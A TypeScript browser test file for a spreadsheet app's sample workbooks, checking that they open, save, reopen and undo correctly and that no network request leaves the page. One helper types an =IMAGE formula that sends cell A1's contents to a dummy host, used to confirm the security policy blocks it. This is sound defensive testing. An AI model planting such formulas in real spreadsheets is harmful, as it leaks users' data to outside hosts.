import { describe, expect, it } from "vitest";
import type { Book } from "../../src/xlsx/book.ts";
import { readBook } from "../../src/xlsx/readBook.ts";
import { cellsOf } from "../samples/registryValue.ts";
import { bench } from "./bench.ts";
import { fileHands, sampleBytes, withoutLink, type Shown } from "./fileHands.ts";
import { sheetKeys } from "./sheetKeys.ts";

const t = bench();
const { says, said, shown, choose, saved } = fileHands(t);

const keys = sheetKeys(t);

const NAMES = ["bid", "compare", "check", "metric"] as const;

/** Holds what the sheet shows against a book: formulas and formats alike, numbers to a part in a billion. */
function expectShown(seen: Shown, book: Book): void {
  expect(seen.map(([name]) => name)).toEqual(book.sheets.map(({ name }) => name));
  const sheets = new Map(seen);
  for (const { sheet, row, column, cell } of cellsOf(book)) {
    const [formula, value, format] = sheets.get(sheet)![row]![column] as [string | null, unknown, string];
    const at = `${sheet} ${row + 1},${column + 1}`;
    expect([at, formula, format]).toEqual([at, cell.formula ?? null, cell.look?.format ?? "General"]);
    if (typeof cell.value === "number")
      expect(Math.abs((value as number) - cell.value), at).toBeLessThanOrEqual(
        1e-9 * Math.max(1, Math.abs(cell.value)),
      );
    else expect([at, value]).toEqual([at, cell.value ?? ""]);
  }
}

/** Types what could fetch from elsewhere, and saves. Says what the page's policy held back, from now on. */
async function tempted(): Promise<() => Promise<string[]>> {
  await t.page.evaluate(() => {
    const broken: string[] = ((window as any).broken = []);
    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
      broken.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
  for (const [i, formula] of [
    '=IMAGE("http://127.0.0.1:9/a.png?c="&A1)',
    '=HYPERLINK("http://127.0.0.1:9/")',
  ].entries())
    await keys.type(4 + i, 7, [[formula, 0]]);
  const download = t.page.waitForEvent("download");
  await t.page.keyboard.press("Control+s");
  await download;
  return () => t.page.evaluate(() => (window as any).broken as string[]);
}

describe("sample workbooks in the bench", () => {
  it.each(NAMES)(
    "%s opens by name with the values of its file, is saved and opens again the same, and no request leaves",
    async (name) => {
      await t.open(`?sample=${name}`);
      const { book, left } = await readBook(sampleBytes(name), name);
      expect(left).toEqual([]);
      expectShown(await shown(), book);
      expect(await says().textContent()).toContain(book.title);
      const file = await saved();
      expect(file.left).toEqual([]);
      expect(rounded(withoutLink(file.book))).toEqual(rounded(book));
      const heldBack = await tempted();
      await choose("again.xlsx", file.bytes);
      await said("is open. Undo brings back");
      expect(await says().textContent()).not.toContain("another value");
      expectShown(await shown(), book);
      expect(t.requests.filter((url) => !url.startsWith(t.url))).toEqual([]);
      expect(await heldBack()).toEqual([]);
    },
  );

  it("are offered in a list, and undo brings back what was there", async () => {
    await t.open();
    const before = await shown();
    await t.page.getByLabel("Samples").selectOption("Metric job");
    await said("is open");
    expectShown(await shown(), (await readBook(sampleBytes("metric"), "")).book);
    await t.page.evaluate(() => window.longpoint.undo());
    await t.page.evaluate(() => window.longpoint.settled());
    expect(await shown()).toEqual(before);
    await t.page.evaluate(() => window.longpoint.redo());
    await t.page.evaluate(() => window.longpoint.settled());
    expectShown(await shown(), (await readBook(sampleBytes("metric"), "")).book);
  });

  it("says which there are when one is asked for that is none", async () => {
    await t.open("?sample=castle");
    expect(await says().textContent()).toContain("bid, compare, check, metric");
    expect((await shown()).map(([name]) => name)).toEqual(["Bid", "Jacks"]);
  });
});

/** Numbers to 12 digits: the last bits of a sum are not the file's to keep. */
function rounded(book: Book): unknown {
  return JSON.parse(
    JSON.stringify(
      { ...book, sheets: book.sheets.map((sheet) => ({ ...sheet, heights: [...(sheet.heights ?? [])] })) },
      (_, value) => (typeof value === "number" ? Number(value.toPrecision(12)) : value),
    ),
  );
}
